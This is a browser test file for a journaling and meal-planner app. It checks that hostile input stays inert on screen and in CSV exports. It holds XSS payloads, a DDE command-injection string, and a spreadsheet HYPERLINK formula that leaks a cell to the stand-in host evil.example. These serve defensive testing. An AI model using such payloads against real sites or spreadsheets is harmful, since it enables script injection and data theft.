import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { completeFirstRun, expect, test } from './fixtures'

/** A bridge call made by the page itself, with its own token: the same path the app's code takes. */
async function invoke<T>(page: Page, channel: string, input?: unknown): Promise<T> {
  const result = await page.evaluate(
    async ([channel, input]) => {
      const token = document.querySelector<HTMLMetaElement>('meta[name="stillwell-bridge"]')!.content
      const response = await fetch('/bridge/invoke', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-stillwell-token': token },
        body: JSON.stringify({ channel, input })
      })
      return (await response.json()) as { ok: boolean; value?: unknown; error?: unknown }
    },
    [channel, input] as const
  )
  if (!result.ok) throw new Error(`${channel}: ${JSON.stringify(result.error)}`)
  return result.value as T
}

const SCRIPT_NOTE = '<img src=x onerror="window.__stillwellPwned=1"><script>window.__stillwellPwned=2</script>'
const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
const SCRIPT_FOOD = '<svg onload="window.__stillwellPwned=3"> soup'
const FORMULA_FOOD = "=cmd|' /C calc'!A0 stew"
const SCRIPT_NAME = '</script><script>window.__stillwellPwned=4</script>'

test('hostile text in notes and food names shows as plain text, runs nothing, and is defused in CSV exports', async ({ page, harness }) => {
  await page.goto(harness.url)
  await completeFirstRun(page, { name: 'Kim', bedtime: '22:30' })

  const defaults = await invoke<{ suggestedDate: string; draft: Record<string, unknown> }>(page, 'journal.defaults')
  const lastNight = defaults.suggestedDate
  const before = new Date(Date.parse(`${lastNight}T12:00:00Z`) - 86_400_000).toISOString().slice(0, 10)
  await invoke(page, 'journal.create', { ...defaults.draft, eveningDate: lastNight, severity: 5, notes: SCRIPT_NOTE })
  await invoke(page, 'journal.create', { ...defaults.draft, eveningDate: before, severity: 4, notes: FORMULA_NOTE })
  const food = { basis: '100g', magnesiumMg: 40, ironMg: 1, kcal: 80, serving: null, portions: [] }
  const scriptFood = await invoke<{ id: string }>(page, 'foods.create', { ...food, name: SCRIPT_FOOD })
  const formulaFood = await invoke<{ id: string }>(page, 'foods.create', { ...food, name: FORMULA_FOOD })
  for (const f of [scriptFood, formulaFood]) {
    await invoke(page, 'planner.addItem', { day: lastNight, meal: 'dinner', foodId: f.id, amount: 250, unit: { kind: 'g' } })
  }

  // The journal shows the note exactly as typed.
  await page.goto(`${harness.url}/#/journal?night=${lastNight}`)
  const notes = page.getByLabel('Anything else about this night')
  await expect(notes).toHaveValue(SCRIPT_NOTE)

  // The export keeps the text but a spreadsheet will not run the formula.
  const [journalCsv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()])
  const journalText = readFileSync((await journalCsv.path())!, 'utf8')
  expect(journalText).toContain(`"'${FORMULA_NOTE.replace(/"/g, '""')}"`)
  expect(journalText).not.toMatch(/(^|,)"?=HYPERLINK/m)

  // The planner and its shopping list show the food names as text.
  await page.goto(`${harness.url}/#/planner?day=${lastNight}&view=shopping`)
  const list = page.getByRole('region', { name: /^Shopping list for / })
  await expect(list.getByText(SCRIPT_FOOD, { exact: true })).toBeVisible()
  await expect(list.getByText(FORMULA_FOOD, { exact: true })).toBeVisible()
  const [shoppingCsv] = await Promise.all([page.waitForEvent('download'), list.getByRole('button', { name: 'Download CSV' }).click()])
  const shoppingText = readFileSync((await shoppingCsv.path())!, 'utf8')
  expect(shoppingText).toContain(`"'${FORMULA_FOOD}"`)

  // The name comes inside the page's HTML on every load (the settings the first screen needs): still only text.
  await invoke(page, 'settings.update', { profile: { name: SCRIPT_NAME } })
  await page.goto(`${harness.url}/#/today`)
  await page.reload()
  await expect(page.getByRole('heading', { level: 1 })).toContainText(SCRIPT_NAME)

  // Nothing ran, and nothing the payloads asked for made it into the page as markup.
  expect(await page.evaluate(() => (window as unknown as Record<string, unknown>)['__stillwellPwned'] ?? null)).toBeNull()
  expect(
    await page.locator('img[onerror], svg[onload], body script:not([src]), head script:not([src]):not([type="application/json"])').count()
  ).toBe(0)
})
